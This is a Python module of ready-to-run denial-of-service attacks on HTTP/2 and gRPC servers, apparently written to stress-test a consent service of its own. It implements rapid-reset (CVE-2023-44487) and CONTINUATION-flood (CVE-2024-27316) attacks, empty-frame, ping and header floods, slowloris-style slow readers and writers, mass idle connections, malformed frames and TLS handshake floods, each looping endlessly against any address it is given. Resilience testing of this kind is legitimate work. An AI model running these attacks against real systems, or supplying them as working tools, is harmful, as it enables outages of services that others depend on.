"""The attacks. Each is a function that attacks an address until it is killed; where the server
hangs up, it comes again."""

import functools
import os
import random
import socket
import ssl
import struct
import time

import server
import wire
from wire import ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RESET, SETTINGS
from wire import Line, frame, headers, literal, message, question

SMALL = question([b"a@example.com"])


def again(attack):
    """One connection after the other, for ever; counts nothing, fears nothing."""

    @functools.wraps(attack)
    def attacks(address):
        while True:
            try:
                attack(address)
            except OSError:
                time.sleep(0.001)

    return attacks


@again
def rapid_reset(address):
    """calls that are taken back at once (CVE-2023-44487)"""
    line = Line(address)
    while not line.closed():
        out = []
        for _ in range(100):
            stream = line.stream()
            out += [frame(HEADERS, END_HEADERS, stream, headers(wire.CHECK))]
            out += [frame(RESET, 0, stream, struct.pack(">I", 8))]
        line.send(b"".join(out))


@again
def paced_reset(address):
    """whole calls that are taken back a moment later"""
    line = Line(address)
    while not line.closed():
        streams = [line.stream() for _ in range(20)]
        line.send(b"".join(wire.call(stream, SMALL) for stream in streams))
        line.send(b"".join(frame(RESET, 0, stream, struct.pack(">I", 8)) for stream in streams))


@again
def continuation_flood(address):
    """headers that never end (CVE-2024-27316)"""
    line = Line(address)
    line.send(frame(HEADERS, 0, line.stream(), headers(wire.CHECK)))
    block = literal(b"x-more", b"y" * 100) * 100
    while not line.closed():
        line.send(frame(CONTINUATION, 0, 1, block) * 20)


@again
def empty_continuation_flood(address):
    """headers in frames without an octet"""
    line = Line(address)
    line.send(frame(HEADERS, 0, line.stream(), headers(wire.CHECK)))
    while not line.closed():
        line.send(frame(CONTINUATION, 0, 1) * 1000)


@again
def empty_data_flood(address):
    """messages in frames without an octet"""
    line = Line(address)
    stream = line.stream()
    line.send(frame(HEADERS, END_HEADERS, stream, headers(wire.STREAM)))
    while not line.closed():
        line.send(frame(DATA, 0, stream) * 1000)


@again
def ping_flood(address):
    """pings and settings without end"""
    line = Line(address)
    while not line.closed():
        line.send((frame(PING, 0, 0, bytes(8)) + frame(SETTINGS, 0, 0)) * 500)


@again
def header_bomb(address):
    """calls with headers beyond the limit, and of names that no one needs"""
    line = Line(address)
    extra = b"".join(literal(b"x-%d" % n, b"y" * 120) for n in range(110))
    while not line.closed():
        line.send(frame(HEADERS, END_HEADERS, line.stream(), headers(wire.CHECK, extra)))


def slow_readers(address):
    """answers to 20,000 addresses that nobody takes, 16 connections of 100"""
    body = question([b""] * 20000)
    hold([lambda: silent(address, body)] * 16)


def silent(address, body):
    line = Line(address, window=1)
    for _ in range(100):
        line.send(wire.call(line.stream(), body))
        if line.closed():
            break
    return line


def deaf_streams(address):
    """streams that fill every window and take no answer, 64 connections"""
    body = question([b"a@example.com"] * 5000)
    hold([lambda: deaf(address, body)] * 64)


def deaf(address, body):
    line = Line(address, window=0)
    # Windows as the server gives them; then it waits, and so do we.
    line.socket.settimeout(0.5)
    try:
        for _ in range(3):
            stream = line.stream()
            line.send(frame(HEADERS, END_HEADERS, stream, headers(wire.STREAM)))
            octets = body * 20
            for at in range(0, 1_400_000, 16384):
                line.send(frame(DATA, 0, stream, octets[at : at + 16384]))
    except OSError:
        pass
    return line


def slow_writers(address):
    """messages that come an octet at a time, 64 connections of 32"""
    lines = []
    while True:
        while len(lines) < 64:
            try:
                line = Line(address)
                for _ in range(32):
                    line.send(frame(HEADERS, END_HEADERS, line.stream(), headers(wire.CHECK)))
                lines.append(line)
            except OSError:
                time.sleep(0.01)
        for line in list(lines):
            try:
                octet = random.randbytes(1) if line.next > 65 else b"\0"
                line.send(b"".join(frame(DATA, 0, 2 * n + 1, octet) for n in range(32)))
                if line.closed():
                    raise OSError
            except OSError:
                lines.remove(line)
        time.sleep(0.2)


def large_promises(address):
    """the beginnings of messages of 60 MiB, 64 connections of 16"""
    begun = b"\0" + struct.pack(">I", 60 << 20) + bytes(16000)
    hold([lambda: promising(address, begun)] * 64)


def promising(address, begun):
    line = Line(address)
    path = "/maysend.v1.ConsentService/OptOut"
    for _ in range(16):
        stream = line.stream()
        line.send(frame(HEADERS, END_HEADERS, stream, headers(path)))
        line.send(frame(DATA, 0, stream, begun))
    return line


def hold(makers):
    """Holds a connection of each, and makes those again that the server closes."""
    held = [None] * len(makers)
    while True:
        for n, make in enumerate(makers):
            if held[n] is None or held[n].closed():
                try:
                    held[n] = make()
                except OSError:
                    held[n] = None
        time.sleep(0.05)


def ten_thousand(address):
    """10,000 connections that say nothing, or just the preface"""
    held = []
    while True:
        while len(held) < 10_000:
            try:
                held.append(Line(address, preface=len(held) % 2 == 0))
            except OSError:
                time.sleep(0.01)
        held = [line for line in held if not line.closed()]


@again
def oversize_frames(address):
    """frames larger than the server takes, and frames cut in the middle"""
    line = Line(address)
    if random.random() < 0.5:
        line.send(b"\xff\xff\xff" + bytes([DATA, 0]) + struct.pack(">I", 1) + bytes(60000))
    else:
        whole = wire.call(line.stream(), SMALL)
        line.send(whole[: random.randrange(1, len(whole))])
    line.close()


@again
def malformed_messages(address):
    """messages that are no protobuf, or no gRPC, on all calls"""
    line = Line(address)
    paths = [wire.CHECK, wire.STREAM, "/maysend.v1.ConsentService/OptOut", "/no.Service/At", "x" * 100]
    while not line.closed():
        for _ in range(20):
            body = random.randbytes(random.randrange(200))
            body = random.choice([body, message(body), message(body)[:-1], b"\xff" + message(body)[1:]])
            line.send(wire.call(line.stream(), body, random.choice(paths)))
        time.sleep(0.002)


@again
def garbage(address):
    """octets that are no HTTP/2 at all"""
    with socket.create_connection(address, timeout=10) as line:
        line.sendall(os.urandom(random.choice([1, 23, 24, 4096])))
        line.sendall(b"GET / HTTP/1.1\r\nhost: x\r\n\r\n" if random.random() < 0.5 else bytes(1000))
        line.settimeout(0.05)
        line.recv(100)


def half_handshakes(address):
    """TLS that begins and goes no further, 500 connections at once"""
    hold([lambda: begun(address)] * 500)


def begun(address):
    line = Line(address, preface=False)
    sent = ssl.MemoryBIO()
    hello = server.stranger().wrap_bio(ssl.MemoryBIO(), sent)
    try:
        hello.do_handshake()
    except ssl.SSLWantReadError:
        line.send(sent.read())
    return line


@again
def whole_handshakes(address):
    """TLS that is agreed on and hung up, as fast as it goes"""
    tls = server.stranger()
    while True:
        Line(address, preface=False, tls=tls).close()


@again
def broken_handshakes(address):
    """TLS that is none: records of random octets, and ones cut in the middle"""
    with socket.create_connection(address, timeout=10) as line:
        size = random.randrange(2000)
        line.sendall(b"\x16\x03\x01" + struct.pack(">H", size) + random.randbytes(random.randrange(size + 1)))
        line.settimeout(0.05)
        line.recv(100)


ATTACKS = [
    rapid_reset,
    paced_reset,
    continuation_flood,
    empty_continuation_flood,
    empty_data_flood,
    ping_flood,
    header_bomb,
    slow_readers,
    deaf_streams,
    slow_writers,
    large_promises,
    ten_thousand,
    oversize_frames,
    malformed_messages,
    garbage,
]

TLS_ATTACKS = [half_handshakes, whole_handshakes, broken_handshakes]
